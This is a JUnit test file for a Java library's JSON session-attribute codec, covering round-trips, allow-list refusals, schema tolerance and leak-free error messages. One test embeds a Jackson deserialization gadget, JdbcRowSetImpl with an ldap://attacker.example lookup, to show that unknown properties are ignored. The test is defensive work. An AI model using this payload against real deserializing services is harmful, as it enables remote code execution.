package dev.portablesession.internal.codec.json;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.portablesession.AttributeEncodingException;
import dev.portablesession.internal.codec.AttributeDecodingException;
import dev.portablesession.internal.codec.Codecs;
import dev.portablesession.internal.codec.RoundTripTest;
import dev.portablesession.internal.codec.fixture.Cart;
import dev.portablesession.internal.codec.fixture.Catalog;
import dev.portablesession.internal.codec.fixture.Color;
import dev.portablesession.internal.codec.fixture.DiscountedItem;
import dev.portablesession.internal.codec.fixture.Frozen;
import dev.portablesession.internal.codec.fixture.FrozenBox;
import dev.portablesession.internal.codec.fixture.Holder;
import dev.portablesession.internal.codec.fixture.Item;
import dev.portablesession.internal.codec.fixture.Money;
import dev.portablesession.internal.codec.fixture.NotSerializableHolder;
import dev.portablesession.internal.codec.fixture.PlainBean;
import dev.portablesession.internal.codec.fixture.Point;
import dev.portablesession.internal.codec.fixture.Quantity;
import dev.portablesession.internal.codec.fixture.Secretive;
import dev.portablesession.internal.codec.gadget.Unlisted;
import java.math.BigDecimal;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class JsonAttributeCodecTest {

    private final JsonAttributeCodec codec = Codecs.JSON;

    private String json(Object value) {
        return new String(codec.encode("attr", value), StandardCharsets.UTF_8);
    }

    @Test
    void recordsAndInstantsComeBackAsTheyWere() {
        Quantity quantity = new Quantity(3, "kg");
        assertEquals(quantity, codec.decode("q", codec.encode("q", quantity)));
        Point point = new Point(1, 2L, Instant.parse("2024-05-01T09:30:00.123456Z"));
        assertEquals(point, codec.decode("p", codec.encode("p", point)));
    }

    @Test
    void aRecordWhoseConstructorRefusesTheStoredValuesIsReportedNotHalfBuilt() {
        byte[] stored = json(new Quantity(3, "kg")).replace("\"units\":3", "\"units\":-3").getBytes(StandardCharsets.UTF_8);
        AttributeDecodingException e = assertThrows(AttributeDecodingException.class, () -> codec.decode("q", stored));
        assertTrue(e.getMessage().contains("attribute \"q\"")
                && e.getMessage().contains("creating dev.portablesession.internal.codec.fixture.Quantity failed"), e.getMessage());
    }

    private Object decode(String json) {
        return codec.decode("attr", json.getBytes(StandardCharsets.UTF_8));
    }

    // --- the stored form ---

    @Test
    void listOfLongsIsStoredAsJsonWithTypeIds() {
        assertEquals("[\"java.util.ArrayList\",[[\"java.lang.Long\",1],[\"java.lang.Long\",2]]]",
                json(new ArrayList<>(List.of(1L, 2L))));
    }

    @Test
    void beanIsStoredAsAnObjectWithItsClassAndSortedProperties() {
        assertEquals("{\"@class\":\"dev.portablesession.internal.codec.fixture.Item\","
                        + "\"price\":9.90,\"quantity\":2,\"sku\":\"A-1\"}",
                json(new Item("A-1", 2, new BigDecimal("9.90"))));
    }

    @Test
    void stringsNumbersAndBooleansThatJsonAlreadyTypesCarryNoTypeId() {
        assertEquals("\"text\"", json("text"));
        assertEquals("42", json(42));
        assertEquals("2.5", json(2.5d));
        assertEquals("true", json(true));
    }

    @Test
    void textIsPlainUtf8() {
        byte[] stored = codec.encode("attr", "caf\u00e9 \u4e2d");

        assertEquals("\"caf\u00e9 \u4e2d\"", new String(stored, StandardCharsets.UTF_8));
    }

    @Test
    void javaTimeIsStoredAsIsoText() {
        assertEquals("[\"java.time.Instant\",\"2024-02-29T12:00:00Z\"]", json(Instant.parse("2024-02-29T12:00:00Z")));
    }

    @Test
    void mapWithOtherThanStringKeysIsStoredAsTypedPairs() {
        Map<Object, Object> map = new LinkedHashMap<>();
        map.put(7L, "seven");
        map.put(Color.RED, null);

        assertEquals("[\"java.util.LinkedHashMap\",[[[\"java.lang.Long\",7],\"seven\"],"
                + "[[\"dev.portablesession.internal.codec.fixture.Color\",\"RED\"],null]]]", json(map));
        assertEquals(map, decode(json(map)));
    }

    @Test
    void mapWithANullKeyComesBack() {
        Map<Object, Object> map = new HashMap<>();
        map.put(null, 1L);
        map.put("a", 2L);

        assertEquals(map, Codecs.roundTrip(codec, map));
    }

    // --- beans and records ---

    @Test
    void beanWithListsOfBeansSubclassesInterfacesAndObjectFieldsComesBackIntact() {
        Cart cart = new Cart();
        cart.setOwner("ann");
        cart.getItems().add(new Item("A-1", 2, new BigDecimal("9.90")));
        cart.getItems().add(new DiscountedItem("B-1", 1, new BigDecimal("5"), 10));
        cart.setCounters(new TreeMap<>(Map.of("views", 3, "adds", 1)));
        cart.setLabel((short) 5);
        cart.setNote(new HashMap<>(Map.of(1L, new ArrayList<>(List.of(Color.GREEN, new Point(1, 2L, 'p'))))));
        cart.setFeatured(new DiscountedItem("C-1", 1, null, 50));
        cart.setColor(Color.GREEN);
        cart.setCreated(Instant.parse("2024-01-01T10:15:30.123Z"));

        Cart back = (Cart) Codecs.roundTrip(codec, cart);

        assertEquals(cart, back);
        assertSame(Item.class, back.getItems().get(0).getClass());
        assertSame(DiscountedItem.class, back.getItems().get(1).getClass());
        assertSame(DiscountedItem.class, back.getFeatured().getClass());
        assertSame(TreeMap.class, back.getCounters().getClass());
        assertSame(Short.class, back.getLabel().getClass());
        RoundTripTest.assertElementClassesKept(cart.getNote(), back.getNote());
    }

    @Test
    void declaredFieldTypesAreFilledWithFittingClasses() {
        Catalog catalog = new Catalog();
        catalog.tags = List.of("new", "sale");
        catalog.ids = Collections.unmodifiableSortedSet(new TreeSet<>(Set.of(3L, 1L)));
        catalog.byId = Map.of(1L, new Item("A", 1, BigDecimal.ONE));
        catalog.stock = new LinkedHashMap<>(Map.of(Color.RED, 3));
        catalog.colors = Set.of(Color.GREEN);
        catalog.nickname = Optional.of("nick");

        Catalog back = (Catalog) Codecs.roundTrip(codec, catalog);

        assertEquals(catalog, back);
        assertInstanceOf(TreeSet.class, back.ids);
        assertSame(Long.class, back.byId.keySet().iterator().next().getClass());
        assertSame(Color.class, back.stock.keySet().iterator().next().getClass());
    }

    @Test
    void emptyOptionalFieldComesBackEmpty() {
        Catalog back = (Catalog) Codecs.roundTrip(codec, new Catalog());

        assertEquals(Optional.empty(), back.nickname);
        assertNull(back.tags);
    }

    static Stream<Arguments> hiddenJdkCollections() {
        Map<String, Long> source = new HashMap<>(Map.of("a", 1L, "b", 2L));
        return Stream.of(
                Arguments.of(List.of(1L, (short) 2), ArrayList.class),
                Arguments.of(List.of(), ArrayList.class),
                Arguments.of(Collections.unmodifiableList(new ArrayList<>(List.of(1L))), ArrayList.class),
                Arguments.of(Collections.emptyList(), ArrayList.class),
                Arguments.of(Collections.singletonList(1L), ArrayList.class),
                Arguments.of(Arrays.asList(1L, 2L), ArrayList.class),
                Arguments.of(new ArrayList<>(List.of(1L, 2L, 3L)).subList(1, 2), ArrayList.class),
                Arguments.of(Set.of(1L, 2L, 3L), LinkedHashSet.class),
                Arguments.of(Collections.unmodifiableSet(new TreeSet<>(Set.of(1L))), LinkedHashSet.class),
                Arguments.of(Collections.emptySet(), LinkedHashSet.class),
                Arguments.of(Collections.singleton('c'), LinkedHashSet.class),
                Arguments.of(source.keySet(), LinkedHashSet.class),
                Arguments.of(Map.of("a", 1L, "b", 2L), LinkedHashMap.class),
                Arguments.of(Map.of(1L, "a"), LinkedHashMap.class),
                Arguments.of(Collections.unmodifiableMap(source), LinkedHashMap.class),
                Arguments.of(Collections.emptyMap(), LinkedHashMap.class),
                Arguments.of(Collections.singletonMap("k", 1L), LinkedHashMap.class),
                Arguments.of(source.values(), ArrayList.class));
    }

    @ParameterizedTest(name = "{0} ({1})")
    @MethodSource("hiddenJdkCollections")
    void hiddenJdkCollectionComesBackAsAnEqualPublicOne(Object collection, Class<?> expectedClass) {
        Object back = Codecs.roundTrip(codec, collection);

        assertSame(expectedClass, back.getClass());
        Object expected = collection.getClass().getSimpleName().equals("Values")
                ? new ArrayList<>((java.util.Collection<?>) collection) : collection;
        assertEquals(expected, back);
        RoundTripTest.assertElementClassesKept(expected, back);
        assertFalse(json(collection).contains("$"), "no JDK-internal class name is stored");
    }

    // --- tolerance to changed classes ---

    @Test
    void unknownPropertiesAreIgnoredWithoutResolvingTheirTypes() {
        String stored = json(new Item("A-1", 2, BigDecimal.TEN)).replace("\"quantity\":2,",
                "\"quantity\":2,\"removed\":42,\"legacy\":{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\","
                        + "\"dataSourceName\":\"ldap://attacker.example/x\"},");

        assertEquals(new Item("A-1", 2, BigDecimal.TEN), decode(stored));
    }

    @Test
    void missingPropertiesKeepTheirDefaults() {
        String stored = json(new Item("A-1", 2, BigDecimal.TEN)).replace(",\"quantity\":2", "");

        assertEquals(new Item("A-1", 0, BigDecimal.TEN), decode(stored));
    }

    @Test
    void recordToleratesAddedAndRemovedComponents() {
        Object back = decode("{\"@class\":\"dev.portablesession.internal.codec.fixture.Point\",\"x\":3,\"z\":9}");

        assertEquals(new Point(3, null, null), back);
    }

    // --- encoding failures ---

    @Test
    void classOutsideTheAllowListFailsWithTheFix() {
        AttributeEncodingException e = assertThrows(AttributeEncodingException.class,
                () -> codec.encode("cart", new Unlisted()));

        assertEquals("attribute \"cart\" (dev.portablesession.internal.codec.gadget.Unlisted) cannot be encoded as JSON: "
                + "type dev.portablesession.internal.codec.gadget.Unlisted is not in the allow-list; add "
                + "\"dev.portablesession.internal.codec.gadget.*\" to the setting codec.allow, or set codec=jdk", e.getMessage());
        assertInstanceOf(IllegalArgumentException.class, e);
    }

    static Stream<Arguments> nestedDisallowedValues() {
        return Stream.of(
                Arguments.of(new ArrayList<>(List.of("s3cret", new Unlisted())), "java.util.ArrayList",
                        "dev.portablesession.internal.codec.gadget.Unlisted"),
                Arguments.of(new Holder(new Unlisted()), "dev.portablesession.internal.codec.fixture.Holder",
                        "dev.portablesession.internal.codec.gadget.Unlisted"),
                Arguments.of(new Point(1, 2L, new Unlisted[] {new Unlisted()}), "dev.portablesession.internal.codec.fixture.Point",
                        "dev.portablesession.internal.codec.gadget.Unlisted"),
                Arguments.of(new HashMap<>(Map.of(new Unlisted(), "s3cret")), "java.util.HashMap",
                        "dev.portablesession.internal.codec.gadget.Unlisted"));
    }

    @ParameterizedTest(name = "{1}")
    @MethodSource("nestedDisallowedValues")
    void nestedClassOutsideTheAllowListFailsNamingBoth(Object value, String outer, String inner) {
        AttributeEncodingException e = assertThrows(AttributeEncodingException.class, () -> codec.encode("cart", value));

        assertTrue(e.getMessage().startsWith("attribute \"cart\" (" + outer + ") cannot be encoded as JSON: type "
                + inner + " is not in the allow-list; add \"dev.portablesession.internal.codec.gadget.*\""), e.getMessage());
        assertFalse(e.getMessage().contains("s3cret"));
    }

    static Stream<Object> unsupportedJdkValues() throws Exception {
        return Stream.of(new URL("https://example.com/"), Optional.of("s3cret"), new Holder(Optional.of(1L)),
                new StringBuilder("s3cret"), new java.io.File("/tmp/s3cret"), new Object(), Thread.currentThread(),
                new java.util.concurrent.ConcurrentHashMap<>(Map.of("k", "s3cret")), java.util.EnumSet.of(Color.RED));
    }

    @ParameterizedTest
    @MethodSource("unsupportedJdkValues")
    void jdkClassOutsideTheAllowListFailsWithoutSuggestingToAllowIt(Object value) {
        AttributeEncodingException e = assertThrows(AttributeEncodingException.class, () -> codec.encode("v", value));

        assertTrue(e.getMessage().startsWith("attribute \"v\" (" + value.getClass().getName() + ") cannot be encoded as JSON: type "),
                e.getMessage());
        assertTrue(e.getMessage().endsWith("is not in the allow-list; store a supported type instead (see docs/codecs.md)"),
                e.getMessage());
        assertFalse(e.getMessage().contains("s3cret"));
    }

    @Test
    void classWithoutACreatorFailsAtEncoding() {
        AttributeEncodingException e = assertThrows(AttributeEncodingException.class,
                () -> codec.encode("frozen", new Frozen("s3cret", 1)));

        assertEquals("attribute \"frozen\" (dev.portablesession.internal.codec.fixture.Frozen) cannot be encoded as JSON: "
                + "no default constructor or creator for dev.portablesession.internal.codec.fixture.Frozen; "
                + "annotate a creator (@JsonCreator), register its library's Jackson module (codec.jackson-modules) "
                + "or a mix-in (codec.jackson-mixins), or set codec=jdk", e.getMessage());
    }

    @Test
    void annotatedCreatorIsTheFix() {
        Money money = new Money(new BigDecimal("12.50"), java.util.Currency.getInstance("CHF"));

        assertEquals(money, ((List<?>) Codecs.roundTrip(codec, new ArrayList<>(List.of(money)))).get(0));
    }

    @Test
    void classWithoutACreatorFailsAtEncodingWherever() {
        for (Object value : List.of(new FrozenBox(), new Holder(new NotSerializableHolder("s3cret")),
                new ArrayList<>(List.of(new Frozen("s3cret", 2))))) {
            AttributeEncodingException e = assertThrows(AttributeEncodingException.class, () -> codec.encode("box", value));

            assertTrue(e.getMessage().startsWith("attribute \"box\" (" + value.getClass().getName()
                    + ") cannot be encoded as JSON: no default constructor or creator for dev.portablesession.internal.codec.fixture."),
                    e.getMessage());
            assertTrue(e.getMessage().endsWith("; annotate a creator (@JsonCreator), register its library's Jackson module "
                    + "(codec.jackson-modules) or a mix-in (codec.jackson-mixins), or set codec=jdk"), e.getMessage());
            assertFalse(e.getMessage().contains("s3cret"));
        }
    }

    @Test
    void failingGetterIsNamedAndKeptAsTheCauseWithoutTheValue() {
        AttributeEncodingException e = assertThrows(AttributeEncodingException.class,
                () -> codec.encode("user", new Secretive("hunter2")));

        assertEquals("attribute \"user\" (dev.portablesession.internal.codec.fixture.Secretive) cannot be encoded as JSON: "
                + "reading dev.portablesession.internal.codec.fixture.Secretive.broken threw java.lang.IllegalStateException; "
                + "fix that getter, or set codec=jdk", e.getMessage());
        assertInstanceOf(IllegalStateException.class, e.getCause());
        assertFalse(e.getMessage().contains("hunter2"));
    }

    @Test
    void cycleFailsWithJacksonsReason() {
        Holder holder = new Holder();
        holder.value = new ArrayList<>(List.of(holder));

        AttributeEncodingException e = assertThrows(AttributeEncodingException.class, () -> codec.encode("loop", holder));

        assertTrue(e.getMessage().startsWith("attribute \"loop\" (dev.portablesession.internal.codec.fixture.Holder) cannot be "
                + "encoded as JSON: "), e.getMessage());
        assertTrue(e.getMessage().endsWith("; see docs/codecs.md for what JSON can store, or set codec=jdk"),
                e.getMessage());
        assertFalse(e.getMessage().contains("\n"));
    }

    @Test
    void beanWithoutPropertiesComesBack() {
        assertInstanceOf(dev.portablesession.internal.codec.fixture.Empty.class,
                Codecs.roundTrip(codec, new dev.portablesession.internal.codec.fixture.Empty()));
    }

    @Test
    void nonSerializableBeansAreFineForJson() {
        assertEquals("plain", ((PlainBean) Codecs.roundTrip(codec, new PlainBean())).name);
    }

    // --- decoding failures ---

    @ParameterizedTest
    @ValueSource(strings = {"", "{", "not json", "[\"java.lang.Long\",", "\"unterminated",
            "{\"@class\":\"dev.portablesession.internal.codec.fixture.Item\",\"sku\":\"hunter2\"",
            "[\"java.lang.Long\",1] trailing", "{\"@class\":\"dev.portablesession.internal.codec.fixture.Item\"} {}"})
    void corruptJsonFailsWithoutQuotingIt(String stored) {
        AttributeDecodingException e = assertThrows(AttributeDecodingException.class,
                () -> codec.decode("cart", stored.getBytes(StandardCharsets.UTF_8)));

        assertTrue(e.getMessage().startsWith("attribute \"cart\" cannot be decoded from JSON: "), e.getMessage());
        assertFalse(e.getMessage().contains("hunter2"));
        assertNull(e.getCause(), "Jackson's own message would quote the input");
    }

    @Test
    void invalidUtf8FailsAsCorrupt() {
        AttributeDecodingException e = assertThrows(AttributeDecodingException.class,
                () -> codec.decode("cart", new byte[] {'"', (byte) 0xC3, (byte) 0x28, '"'}));

        assertEquals("attribute \"cart\" cannot be decoded from JSON: the stored bytes are not valid JSON", e.getMessage());
    }

    @Test
    void removedClassFailsNamingIt() {
        AttributeDecodingException e = assertThrows(AttributeDecodingException.class,
                () -> decode("{\"@class\":\"dev.portablesession.internal.codec.fixture.Removed\",\"a\":1}"));

        assertEquals("attribute \"attr\" cannot be decoded from JSON: type dev.portablesession.internal.codec.fixture.Removed "
                + "is not found by the web application's class loader", e.getMessage());
    }

    @Test
    void classNoLongerAllowedFailsNamingIt() {
        AttributeDecodingException e = assertThrows(AttributeDecodingException.class,
                () -> decode("{\"@class\":\"com.acme.Cart\",\"a\":1}"));

        assertEquals("attribute \"attr\" cannot be decoded from JSON: type com.acme.Cart is not in the allow-list",
                e.getMessage());
    }

    @Test
    void incompatiblyChangedPropertyFailsNamingWhereButNotTheValue() {
        AttributeDecodingException e = assertThrows(AttributeDecodingException.class, () -> decode(
                "[\"java.util.ArrayList\",[{\"@class\":\"dev.portablesession.internal.codec.fixture.Item\",\"quantity\":\"hunter2\"}]]"));

        assertTrue(e.getMessage().startsWith("attribute \"attr\" cannot be decoded from JSON: the stored JSON does not fit "
                + "int at java.util.ArrayList[0].quantity"), e.getMessage());
        assertFalse(e.getMessage().contains("hunter2"));
    }

    @Test
    void typeThatDoesNotFitTheDeclaredTypeIsRefused() {
        AttributeDecodingException e = assertThrows(AttributeDecodingException.class, () -> decode(
                "{\"@class\":\"dev.portablesession.internal.codec.fixture.Cart\",\"featured\":"
                        + "{\"@class\":\"dev.portablesession.internal.codec.fixture.Point\",\"x\":1}}"));

        assertEquals("attribute \"attr\" cannot be decoded from JSON: type dev.portablesession.internal.codec.fixture.Point "
                + "does not fit the declared type dev.portablesession.internal.codec.fixture.Item", e.getMessage());
    }

    @Test
    void objectWithoutTypeIdIsRefused() {
        AttributeDecodingException e = assertThrows(AttributeDecodingException.class, () -> decode("{\"sku\":\"A\"}"));

        assertTrue(e.getMessage().startsWith("attribute \"attr\" cannot be decoded from JSON: "), e.getMessage());
    }

    @Test
    void storedNullIsRefused() {
        AttributeDecodingException e = assertThrows(AttributeDecodingException.class, () -> decode("null"));

        assertEquals("attribute \"attr\" cannot be decoded from JSON: the stored value is null", e.getMessage());
    }

    // --- concurrency and size ---

    @Test
    void oneInstanceServesManyThreads() throws Exception {
        List<Object> values = RoundTripTest.values();
        ExecutorService pool = Executors.newFixedThreadPool(8);
        try {
            List<Callable<Boolean>> tasks = IntStream.range(0, 64).<Callable<Boolean>>mapToObj(t -> () -> {
                for (int i = 0; i < 50; i++) {
                    Object value = values.get((t * 31 + i) % values.size());
                    Object back = Codecs.roundTrip(codec, value);
                    if (!value.equals(back) || value.getClass() != back.getClass()) {
                        return false;
                    }
                }
                return true;
            }).toList();
            for (Future<Boolean> result : pool.invokeAll(tasks)) {
                assertTrue(result.get());
            }
        } finally {
            pool.shutdownNow();
        }
    }

    @Test
    void fiftyKilobyteListOfBeansRoundTripsQuickly() {
        ArrayList<Item> items = new ArrayList<>();
        for (int i = 0; i < 600; i++) {
            items.add(new Item("SKU-" + i, i % 7, new BigDecimal(i).movePointLeft(2)));
        }
        byte[] stored = codec.encode("items", items);
        assertTrue(stored.length > 50_000, "size " + stored.length);

        long start = System.nanoTime();
        for (int i = 0; i < 200; i++) {
            assertEquals(items, codec.decode("items", codec.encode("items", items)));
        }
        long millis = (System.nanoTime() - start) / 1_000_000;

        assertTrue(millis < 20_000, "200 round trips of 50 KB took " + millis + " ms");
    }
}
